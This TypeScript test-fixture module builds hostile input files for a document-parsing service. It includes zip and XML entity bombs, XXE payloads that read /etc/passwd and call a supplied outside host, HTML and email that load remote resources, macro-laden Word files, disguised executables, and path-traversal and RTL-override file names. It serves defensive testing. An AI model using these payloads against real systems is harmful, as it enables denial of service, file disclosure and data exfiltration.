/** Office files, XML, mail, tables and names that mean harm. */

import { deflateRawSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { compoundFile, macroProject, macros, mailWith, officeWith, windowsProgram } from "./dangerous.ts";
import { noise } from "./hostile-pdfs.ts";
import { docx, wordParagraph, xlsx } from "./office.ts";
import { makeZip } from "./zips.ts";

const MiB = 1024 * 1024;
const wordTypes =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const laughs = `<!DOCTYPE x [<!ENTITY a0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join("")}]>`;
const reaching = (outside: string) =>
  `<!DOCTYPE x SYSTEM "${outside}/dtd" [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY u SYSTEM "${outside}/entity"><!ENTITY % p SYSTEM "${outside}/p">%p;]>`;
const xml = (doctype: string, body: string) =>
  strToU8(`<?xml version="1.0" encoding="UTF-8"?>${doctype}<Invoice>${body}</Invoice>`);
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const wordOf = (document: string) =>
  officeWith({ "word/document.xml": document, "_rels/.rels": "<Relationships/>" });

function deepMail(levels: number): Uint8Array {
  const head: string[] = ["From: a@example.org", "Subject: deep", "MIME-Version: 1.0"];
  for (let i = 0; i < levels; i++)
    head.push(`Content-Type: multipart/mixed; boundary="b${i}"`, "", `--b${i}`);
  return strToU8([...head, "Content-Type: text/plain", "", "The end."].join("\r\n"));
}

function messageInMessage(levels: number): Uint8Array {
  let text = "From: a@example.org\r\nSubject: inside\r\n\r\nThe end.";
  for (let i = 0; i < levels; i++)
    text = `From: a@example.org\r\nSubject: level ${i}\r\nContent-Type: message/rfc822\r\n\r\n${text}`;
  return strToU8(text);
}

const mailOf = (type: string, body: string) =>
  strToU8(`From: a@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body}`);

/** A compound file whose allocation table points at itself ([MS-CFB] 2.3). */
function circle(): Uint8Array {
  const b = Buffer.from(compoundFile({ "/WordDocument": noise(9000) }));
  for (let at = 512; at < 1024; at += 4) b.writeUInt32LE((at - 512) / 4, at);
  return b;
}

export const hostileTexts: Record<string, (outside: string) => Uint8Array> = {
  "word-bomb.docx": () => {
    const body = deflateRawSync(Buffer.alloc(400 * MiB, "<w:p/>"), { level: 9 });
    return makeZip([
      { name: "[Content_Types].xml", bytes: wordTypes },
      { name: "word/document.xml", bytes: "", packed: body, says: { bytes: 400 * MiB, packed: body.length } },
    ]);
  },
  "word-laughs.docx": () =>
    wordOf(
      `<?xml version="1.0"?>${laughs}<w:document ${W}><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  "word-outside.docx": (outside) =>
    wordOf(
      `<?xml version="1.0"?>${reaching(outside)}<w:document ${W}><w:body><w:p><w:r><w:t>&f;&u;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  "word-deep.docx": () =>
    docx(
      `${"<w:tbl><w:tr><w:tc>".repeat(20_000)}${wordParagraph("x")}${"</w:tc></w:tr></w:tbl>".repeat(20_000)}`,
    ),
  "word-long.docx": () => docx(wordParagraph("Forty words that stand again and again.").repeat(150_000)),
  "word-macros.docm": () => officeWith({ "word/vbaProject.bin": macroProject(macros.startsPrograms) }),
  "word-sums.docm": () => officeWith({ "word/vbaProject.bin": macroProject(macros.harmless) }),
  "word-circle.doc": circle,
  "sheet-far.xlsx": () =>
    xlsx([
      {
        name: "A",
        rows: '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        more: '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      },
    ]),
  "sheet-strings.xlsx": () =>
    xlsx(
      [{ name: "A", rows: `<row r="1">${'<c t="s"><v>0</v></c>'.repeat(16_000)}</row>` }],
      ["x".repeat(2 * MiB)],
    ),
  "sheet-repeated.ods": () =>
    zipSync({
      mimetype: [strToU8("application/vnd.oasis.opendocument.spreadsheet"), { level: 0 }],
      "content.xml": strToU8(
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>',
      ),
    }),
  "rich-deep.rtf": () => strToU8(`{\\rtf1 ${"{".repeat(500_000)}x`),
  "rich-binary.rtf": () => strToU8("{\\rtf1 Hello {\\pict\\bin2147483647 x} {\\*\\objdata 0105}}"),
  "laughs.xml": () => xml(laughs, "<ID>&a9;</ID>"),
  "quadratic.xml": () => xml(`<!DOCTYPE x [<!ENTITY a "${"x".repeat(100_000)}">]>`, "&a;".repeat(100_000)),
  "outside.xml": (outside) => xml(reaching(outside), "<ID>&f;&u;</ID>"),
  "deep.xml": () => xml("", `${"<a>".repeat(300_000)}${"</a>".repeat(300_000)}`),
  "mail-deep.eml": () => deepMail(1000),
  "mail-in-mail.eml": () => messageInMessage(1000),
  "mail-parts.eml": () =>
    mailOf(
      'multipart/mixed; boundary="b"',
      Array.from({ length: 10_000 }, (_, i) => `--b\r\nContent-Type: text/plain\r\n\r\npart ${i}`).join(
        "\r\n",
      ),
    ),
  "mail-files.eml": () =>
    mailOf(
      'multipart/mixed; boundary="b"',
      Array.from(
        { length: 3000 },
        (_, i) =>
          `--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="${i}.txt"\r\n\r\npart ${i}`,
      ).join("\r\n"),
    ),
  "mail-boundary.eml": () =>
    mailOf(`multipart/mixed; boundary="${"b".repeat(2 * MiB)}"`, `--${"b".repeat(2 * MiB)}\r\n\r\nx`),
  "mail-heads.eml": () =>
    strToU8(`From: a@example.org\r\nSubject: x\r\n${"X-Head: y\r\n".repeat(200_000)}\r\nx`),
  "mail-base64.eml": () =>
    mailOf('text/plain; charset="utf-7"\r\nContent-Transfer-Encoding: base64', "=".repeat(10 * MiB)),
  "mail-program.eml": () => mailWith("bill.pdf", windowsProgram()),
  "mail-outside.eml": (outside) =>
    mailOf(
      "text/html",
      `<html><head><link rel="stylesheet" href="${outside}/css"><meta http-equiv="refresh" content="0;url=${outside}/go"><style>@import "${outside}/import";body{background:url(${outside}/bg)}</style></head><body><img src="${outside}/pixel.gif"><img srcset="${outside}/a 1x"><iframe src="${outside}/frame"></iframe><object data="${outside}/o"></object><script src="${outside}/js"></script>Hello, your bill is 12.00.</body></html>`,
    ),
  "page-outside.html": (outside) =>
    strToU8(
      `<!doctype html><html><body><img src="${outside}/p.png"><svg><image href="${outside}/s"/></svg><script>fetch("${outside}/f")</script>Amount due 12.00</body></html>`,
    ),
  "page-deep.html": () => strToU8(`<!doctype html><html><body>${"<div>".repeat(200_000)}x</body></html>`),
  "page-tables.html": () =>
    strToU8(
      `<!doctype html><html><body>${"<table><tr><td colspan=9999999 rowspan=9999999>".repeat(3000)}x</body></html>`,
    ),
  "wide.csv": () => strToU8(`${"a;".repeat(1_000_000)}\n${"1;".repeat(1_000_000)}\n`),
  "one-line.txt": () => strToU8("word ".repeat(4 * MiB)),
  "marks.txt": () => strToU8("Zalgo \u0301\u0302\u0303\u0304".repeat(300_000)),
  "events.ics": () =>
    strToU8(
      `BEGIN:VCALENDAR\r\n${"BEGIN:VEVENT\r\nSUMMARY:x\r\nDTSTART:20240101\r\nRRULE:FREQ=SECONDLY\r\nEND:VEVENT\r\n".repeat(30_000)}END:VCALENDAR`,
    ),
};

/** What is sent under a name that is not its own, and names that are none. */
export const hostileNames: Record<string, (outside: string) => Uint8Array> = {
  "program.pdf": () => windowsProgram(),
  "bill.pdf.exe": () => windowsProgram(),
  "bill.pdf.js": () => strToU8("var x = new ActiveXObject('WScript.Shell');"),
  "page.jpg": (outside) => strToU8(`<!doctype html><html><script src="${outside}/spoof"></script></html>`),
  "picture.docx": () => Buffer.concat([Buffer.from("GIF89a"), noise(3000)]),
  "bill\u202Efdp.txt": () => strToU8("A letter under a name that is turned around."),
  [`${"n".repeat(64 * 1024)}.txt`]: () => strToU8("A letter under a name of 64 kilobytes."),
  "nul\0name.txt": () => strToU8("A letter under a name with a zero byte."),
  "../../../../etc/passwd": () => strToU8("A letter under a name that leads elsewhere."),
  "nothing.pdf": () => new Uint8Array(),
};
